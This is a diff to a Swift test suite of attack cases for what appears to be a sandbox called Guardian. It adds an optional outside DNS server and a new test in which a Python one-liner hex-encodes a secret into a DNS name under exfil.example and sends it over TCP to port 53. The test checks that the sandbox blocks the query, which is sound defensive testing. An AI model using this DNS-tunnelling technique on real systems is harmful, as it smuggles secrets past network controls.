@@ -23,12 +23,12 @@ extension Attack {
     /// Starts the outside servers for one world. They run in a session of their own with stdio
     /// on /dev/null and every other descriptor closed (they must hold none of the test runner's
     /// pipes), and are killed when the world is done.
-    static func outsideServers(_ w: World) throws -> Prepared {
+    static func outsideServers(_ w: World, dns: Bool = false) throws -> Prepared {
         guard let sources = Helpers.sources else { throw SetupError("the helpers/ resource is missing") }
         let dir = w.out + "/srv"
         try FileManager.default.createDirectory(atPath: dir, withIntermediateDirectories: true)
         let abstract = "guardian-adv-" + UUID().uuidString.prefix(8)
-        let servers = try Daemon(["python3", sources + "/outside.py", dir, abstract], environment: w.environment)
+        let servers = try Daemon(["python3", sources + "/outside.py", dir, abstract] + (dns ? ["dns"] : []), environment: w.environment)
         let stop = { servers.stop() }
         let deadline = Date().addingTimeInterval(15)
         while !FileManager.default.fileExists(atPath: dir + "/ready") {
@@ -116,6 +116,26 @@ extension Attack {
             print(s.recv(4096))'
             """#, goal: .fileContains("srv/api.log", "volumeDelete"), evidence: .event,
                setup: { w in var p = try outsideServers(w); p.env["VD"] = volumeDelete; return p }, profile: "staging"),
+        // A DNS query over TCP (RFC 7766 framing) to a server of its own choosing on port 53 —
+        // the remote address when one is configured — its name carrying data in hex: a stream
+        // to port 53 once went out like any byte stream. It reaches Guardian's resolver, which
+        // refuses the name without forwarding it.
+        Attack(name: "net-dns-over-tcp-exfiltration", script: #"""
+            python3 -c 'import os, socket, struct
+            name = "6465706c6f792d6b65793a2073656372657421.exfil.example"
+            q = struct.pack(">HHHHHH", 7, 0x0100, 1, 0, 0, 0) + b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\x00\x00\x01\x00\x01"
+            s = socket.create_connection((os.environ["REMOTEADDR"], 53), timeout=5)
+            s.sendall(struct.pack(">H", len(q)) + q)
+            print(s.recv(512))'
+            """#, goal: .fileContains("srv/dns.log", "exfil"), evidence: .event,
+               setup: { w in
+                   let p = try outsideServers(w, dns: true)
+                   guard FileManager.default.fileExists(atPath: w.out + "/srv/dns.port") else {
+                       p.cleanup()
+                       throw SetupError("port 53 could not be bound for the outside DNS server (not root)")
+                   }
+                   return p
+               }),
         // sendto(2) with an address on an unconnected Unix datagram socket: decided by who is
         // bound to the receiving socket (path or abstract name), as a connect is.
         Attack(name: "net-unix-dgram-sendto-outside", script: #""$H/net" dgram "$SRV/dgram.sock" "echo RAN > $OUT/ran""#,
